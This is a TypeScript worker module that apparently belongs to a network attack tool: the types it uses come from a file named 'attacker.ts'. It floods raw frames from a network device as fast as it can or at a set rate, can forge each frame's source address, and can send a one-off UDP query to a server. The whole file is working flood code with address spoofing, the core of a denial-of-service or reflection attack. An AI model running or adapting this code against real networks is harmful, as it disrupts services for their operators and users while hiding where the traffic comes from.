// Sends frames over and over from a device, as fast as it may, from `flood` to `stop`; and asks a server a question when told to.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { setImmediate as turn, setTimeout as sleep } from 'node:timers/promises';
import type { Answer, Order } from './attacker.ts';
import { PacketSocket } from './packet-socket.ts';
import { renewSource } from './renew-sources.ts';

const BATCH = 256;

/** Batches until the event loop gets its turn, in which it hears `stop`. */
const BATCHES_A_TURN = 8;

const [device = ''] = process.argv.slice(2);
let ending = new AbortController();

process.on('message', (order: Order) => {
  if (order.kind === 'stop') ending.abort();
  else if (order.kind === 'ask') void ask(order).then(tell);
  else void flood(order).then(tell);
});
process.on('disconnect', () => process.exit());
tell({ kind: 'ready' });

function tell(answer: Answer): void {
  process.send?.(answer);
}

async function flood({
  frames,
  lengths,
  forged,
  perSecond,
}: Order & { readonly kind: 'flood' }): Promise<Answer> {
  const socket = new PacketSocket(device, frames, lengths);
  const views = viewsOf(frames, lengths);
  const startedAt = performance.now();
  const seconds = (): number => (performance.now() - startedAt) / 1000;
  let sent = 0;
  ending = new AbortController();
  const { signal } = ending;
  while (!signal.aborted) {
    for (let i = 0; i < BATCHES_A_TURN; i++) {
      if (perSecond !== null && sent > perSecond * seconds()) break;
      const from = sent % views.length;
      const count = socket.send(from, BATCH);
      if (forged) for (let at = from; at < from + count; at++) renewSource(views[at] ?? frames);
      sent += count;
    }
    await (perSecond === null ? turn() : sleep(1));
  }
  socket.close();
  return { kind: 'sent', sent, seconds: seconds() };
}

function viewsOf(frames: Buffer, lengths: readonly number[]): readonly Buffer[] {
  let at = 0;
  return lengths.map((length) => frames.subarray(at, (at += length)));
}

async function ask({ from, to, bytes }: Order & { readonly kind: 'ask' }): Promise<Answer> {
  const socket = createSocket('udp4');
  socket.bind(0, from);
  await once(socket, 'listening');
  const heard = once(socket, 'message');
  socket.send(bytes, to.port, to.address);
  const [answer] = (await heard) as [Buffer];
  socket.close();
  return { kind: 'answer', bytes: answer };
}
